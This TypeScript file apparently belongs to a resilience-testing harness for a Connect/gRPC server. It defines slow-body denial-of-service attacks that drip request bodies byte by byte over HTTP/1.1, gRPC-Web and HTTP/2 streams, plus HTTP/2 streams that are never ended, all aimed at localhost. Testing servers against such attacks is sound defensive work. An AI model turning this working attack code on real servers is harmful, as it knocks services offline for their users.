import { type Attack, CALL, callHeaders } from "./attack.js";
import { frame, TYPE } from "./frames.js";
import type { RawConnection } from "./raw-connection.js";

/** The start of a message that needs 65,280 bytes more. */
const PREFIX = Buffer.from([0, 0, 0, 0xff, 0]);

/** Twenty streams of one connection. */
const IDS = Array.from({ length: 20 }, (_, i) => 2 * i + 1);

/** An HTTP/1.1 body that comes byte by byte. */
export const slowBodyHttp1: Attack = {
  name: "slow body, HTTP/1.1",
  connections: 200,
  protocol: "http/1.1",
  async run(connection) {
    const head = ["Host: localhost", "Content-Type: application/json", "Content-Length: 60000"];
    await connection.write([`POST ${CALL} HTTP/1.1`, ...head, "", ""].join("\r\n"));
    await drip(connection, () => connection.write(" "));
  },
};

/** The same in chunks, over Connect's own adapter: gRPC-Web. */
export const slowBodyGrpcWeb: Attack = {
  name: "slow body, gRPC-Web",
  connections: 200,
  protocol: "http/1.1",
  async run(connection) {
    const type = "Content-Type: application/grpc-web+proto";
    const head = ["Host: localhost", type, "Transfer-Encoding: chunked"];
    await connection.write([`POST ${CALL} HTTP/1.1`, ...head, "", ""].join("\r\n"));
    await connection.write(Buffer.concat([Buffer.from("5\r\n"), PREFIX, Buffer.from("\r\n")]));
    await drip(connection, () => connection.write("1\r\n\0\r\n"));
  },
};

/** HTTP/2 bodies that come byte by byte, twenty on a connection. */
export const slowBodyHttp2: Attack = {
  name: "slow body, HTTP/2",
  connections: 20,
  async run(connection) {
    await connection.begin();
    await connection.write(Buffer.concat([...IDS.map((id) => callHeaders(id)), ...onEach(PREFIX)]));
    const drops = Buffer.concat(onEach(Buffer.alloc(1)));
    await drip(connection, () => connection.write(drops, IDS.length));
  },
};

/** Whole messages on streams that the client never ends. */
export const unendedStreams: Attack = {
  name: "calls never ended, HTTP/2",
  connections: 20,
  async run(connection) {
    await connection.begin();
    const messages = onEach(Buffer.alloc(5));
    await connection.write(Buffer.concat([...IDS.map((id) => callHeaders(id)), ...messages]));
    await connection.waitForEnd();
  },
};

function onEach(bytes: Buffer): Buffer[] {
  return IDS.map((id) => frame(TYPE.data, 0, id, bytes));
}

async function drip(connection: RawConnection, drop: () => Promise<void>) {
  while (connection.going) {
    await drop();
    await connection.wait(200);
  }
}
